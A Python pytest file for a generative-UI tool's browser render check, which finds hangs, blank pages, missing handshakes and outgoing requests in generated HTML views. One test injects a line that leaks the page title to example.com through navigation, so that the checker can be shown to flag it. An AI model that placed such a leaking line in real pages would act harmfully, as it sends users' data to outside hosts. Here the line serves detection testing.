"""The render check: cases/render are pages that static rules accept, and the rule that finds their fault."""

import json
from pathlib import Path

import pytest
from kept import contents, entry, store_tools
from test_pageviews import GOOD, ORDERS, UNITS

from genui.assets import load_assets
from genui.build import compile_project
from genui.cli import main
from genui.config import load_config
from genui.errors import GenuiError
from genui.lint import validate_page
from genui.model import Finding, Snapshot, Tool, View, errors_of
from genui.render import RENDER_RULES, check_render, in_flight
from genui.render.odd import ODD, odd_results
from genui.render.results import feed_of
from genui.render.rules import findings_in, script_errors
from genui.store import read_store, write_store
from genui.viewfile import source_files

CASES = Path(__file__).parent / "cases" / "render"
TOOL = Tool(json.loads((CASES / "tool.json").read_text(encoding="utf-8")))
FAULTS = sorted(path.name for path in CASES.iterdir() if path.is_dir())
BARE = Tool({"name": "contacts", "inputSchema": {"type": "object"}})


def rule_of(case: str) -> str:
    return (CASES / case / "rule.txt").read_text(encoding="utf-8").strip()


@pytest.mark.browser
def test_faults_that_only_running_shows_are_found_though_views_are_in_flight_and_one_hangs(warm, monkeypatch):
    # The page that hangs keeps a processor busy until its tab is given up.
    monkeypatch.setattr("genui.render.browser.CLOSING", 0.1)

    def look(case):
        patience = {"render-hang": 0.5, "render-no-handshake": 1}.get(rule_of(case), 20)
        page = (CASES / case / "page.html").read_bytes()
        return check_render(page, TOOL, browser=warm, patience=patience)

    with in_flight(3) as each:
        found = dict(zip(FAULTS, each(look, FAULTS), strict=True))

    rules = {case: {finding.rule for finding in found[case]} for case in FAULTS}
    assert rules == {case: {rule_of(case)} - {""} for case in FAULTS}
    assert all(finding.hint for findings in found.values() for finding in findings)


def test_static_rules_see_nothing_of_most_of_these_faults():
    pages = {case: (CASES / case / "page.html").read_bytes() for case in FAULTS}
    seen = {case: errors_of(validate_page(page, tools=[TOOL])) for case, page in pages.items()}

    assert len({rule_of(case) for case in FAULTS if not seen[case]} - {""}) >= 10
    assert [case for case in FAULTS if seen[case]] == [
        "leaks-markup",
        "merges-into-prototypes",
        "undefined-name",
    ]


@pytest.mark.browser
def test_our_own_view_survives_results_of_every_odd_kind(warm, monkeypatch):
    from conftest import linked

    # The check takes six seconds for five megabytes, and the page draws the first 100 kB of either.
    long = {"content": [{"type": "text", "text": "x" * 500_000}]}
    monkeypatch.setitem(ODD, "5 MB of text", lambda _data: long)
    html = linked(dict(TOOL.definition))

    found = check_render(html, TOOL, browser=warm, fuzz=len(ODD) + 2, patience=20)

    assert [f"{finding.rule}: {finding.message}" for finding in found if finding.severity == "error"] == []


@pytest.mark.browser
def test_a_page_that_reaches_out_is_told_what_it_asked_for(warm):
    page = GOOD.replace(
        "const note =", 'location.href = "https://example.com/?" + document.title;\nconst note ='
    )

    found = {
        finding.rule: finding.message
        for finding in check_render(page.encode(), TOOL, browser=warm, patience=20)
    }

    assert "navigation https://example.com/?Orders" in found["render-request"]


@pytest.mark.browser
def test_a_build_keeps_out_what_does_not_work(tmp_path, monkeypatch, capsys):
    generated = tmp_path / "generated"
    generated.mkdir()
    monkeypatch.chdir(tmp_path)
    store_tools(generated, ORDERS)
    page = (CASES / "blank-after-error" / "page.html").read_text(encoding="utf-8")
    for name, data in source_files("list_orders", View("list_orders", {}, "imported", page=page)).items():
        (generated / name).parent.mkdir(parents=True, exist_ok=True)
        (generated / name).write_bytes(data)
    before = contents(generated)

    assert main(["build", "--from-snapshot", "--render", "--fuzz", "2"]) == 1

    assert "render-blank" in capsys.readouterr().err
    assert contents(generated) == before


def test_a_view_that_fails_at_the_gate_is_written_as_a_fallback_and_tried_again(tmp_path):
    config = load_config(None, environ={}, flags={"build.generated": str(tmp_path)})
    snapshot = Snapshot({"name": "o", "version": "1"}, "", (Tool(ORDERS), Tool(UNITS)))
    fault = Finding("render-blank", "error", "the page is blank")

    def build(gate):
        made = compile_project(snapshot, config, read_store(tmp_path), load_assets("templates"), gate=gate)
        write_store(tmp_path, made.files, remove=made.remove)
        return {outcome.name: outcome.state for outcome in made.outcomes}

    first = build(lambda tool, html, wishes: (fault,) if tool.name == "list_orders" else ())

    assert first == {"list_orders": "fallback", "list_units": "missing"}
    told = entry(tmp_path, "list_orders")
    assert "the page is blank" in told.fallback
    assert build(lambda tool, html, wishes: ()) == {"list_orders": "fallback", "list_units": "fresh"}
    assert build(lambda tool, html, wishes: ()) == {"list_orders": "fresh", "list_units": "fresh"}


def test_a_browser_that_does_not_start_is_an_error_with_a_hint(monkeypatch, tmp_path):
    monkeypatch.setenv("GENUI_CHROMIUM", str(tmp_path / "none"))

    with pytest.raises(GenuiError, match="no browser starts") as caught:
        check_render(GOOD.encode(), TOOL)

    assert "playwright install chromium" in caught.value.hint


def test_a_page_that_cannot_be_linked_is_told_without_a_browser(monkeypatch):
    monkeypatch.setattr("genui.render.browser.WarmBrowser.check", lambda *_: pytest.fail("no browser"))
    page = GOOD.replace("{ App }", "{ App, Server }").encode()

    assert [finding.rule for finding in check_render(page, TOOL)] == ["import-unresolved"]


def test_results_have_the_shape_that_the_schema_declares():
    feed = feed_of(GOOD, TOOL)

    orders = feed.typical["structuredContent"]["orders"]
    assert {type(order["customer"]) for order in orders} == {str}
    assert feed.empty["structuredContent"] == {"orders": []}
    assert feed.other != feed.typical != feed.run != feed.other
    assert "genui-canary" in json.dumps(feed.hostile)
    assert feed.declared


def test_examples_beat_the_schema():
    example = {
        "arguments": {"customer": "Ada"},
        "result": {"content": [{"type": "text", "text": "Seven orders"}]},
    }

    feed = feed_of(GOOD, TOOL, examples=[example])

    assert (feed.args, feed.typical) == ({"customer": "Ada"}, example["result"])
    assert "Seven orders" in feed.other["content"][0]["text"]
    assert feed.other != feed.typical


def test_where_nothing_is_declared_the_script_of_the_page_tells_what_it_reads():
    data = feed_of(GOOD, BARE).typical["structuredContent"]

    assert data["orders"][0].keys() >= {"customer", "total"}


@pytest.mark.parametrize(
    "script",
    [
        "const list = result.structuredContent?.tickets ?? []; out.append(...list.map((t) => t.subject));",
        "const { tickets = [] } = result.structuredContent; for (const t of tickets) out.append(t.subject);",
        "const rows = result.structuredContent.tickets.slice(); rows.forEach((t) => out.append(t.subject));",
        "for (const t of result.structuredContent.tickets) out.append(t.subject);",
    ],
)
def test_what_a_page_walks_through_is_made_up_as_a_list(script: str):
    data = feed_of(
        GOOD[: GOOD.index("<script")] + f"<script>function show(result) {{ {script} }}</script>", BARE
    )

    assert [*data.typical["structuredContent"]["tickets"][0]] == ["subject"]


def test_what_made_up_data_may_break_is_a_warning_and_other_errors_are_none():
    told = {"text": "", "mark": "", "media": 0, "markup": ""}
    said = ["TypeError: list.map is not a function", "ReferenceError: gone is not defined"]
    report = {"first": {**told, "errors": said}, "states": []}

    feeds = feed_of(GOOD, BARE), feed_of(GOOD, TOOL)
    found = [[severity for severity, _ in script_errors(report, feed)] for feed in feeds]

    assert found == [["warning", "error"], ["error", "error"]]


def test_odd_results_are_the_same_every_time_and_as_many_as_asked():
    typical = feed_of(GOOD, TOOL).typical

    for number in (0, 3, len(ODD) + 4):
        first, again = list(odd_results(typical, number)), list(odd_results(typical, number))
        assert len(first) == number
        assert json.dumps(first) == json.dumps(again)


def test_every_rule_passes_over_a_report_that_ended_early():
    feed = feed_of(GOOD, TOOL)

    assert {finding.rule for finding in findings_in({"hung": "load"}, feed)} == {"render-hang"}
    assert {finding.rule for finding in findings_in({"hello": False}, feed)} == {"render-no-handshake"}
    assert len(RENDER_RULES) >= 10
